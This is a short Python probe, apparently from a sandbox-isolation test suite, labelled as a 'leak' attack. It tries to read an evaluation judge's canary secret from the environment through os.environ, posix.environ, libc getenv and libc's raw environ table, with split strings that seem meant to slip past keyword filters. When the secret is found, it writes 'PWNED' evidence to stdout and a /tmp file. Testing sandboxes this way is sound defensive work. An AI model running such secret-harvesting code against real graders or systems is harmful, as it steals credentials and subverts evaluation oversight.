# attack: env_every_door
# kind: leak   task: any   naive: run
# attempts: read the judge's environment through Python, libc and the C library's own pointer
import os

def evidence(found="yes"):
    said = f"PWNED env_every_door {found}"[:200].encode("utf-8", "replace") + b"\n"
    try:
        os.write(1, said)
        os.write(os.open("/tmp/sbx_evidence/env_every_door", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666), said)
    except OSError:
        pass

import ctypes
import posix

libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
doors = [repr(dict(os.environ)), repr(posix.environ), repr(libc.getenv(b"SBX_CANARY" + b"_SECRET"))]
table = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
for place in range(1000):
    if not table or not table[place]:
        break
    doors.append(repr(table[place]))
if any("SBX_" + "CANARY" in door for door in doors[:2] + doors[3:]) or doors[2] != "None":
    evidence("the judge's secret is in my environment")
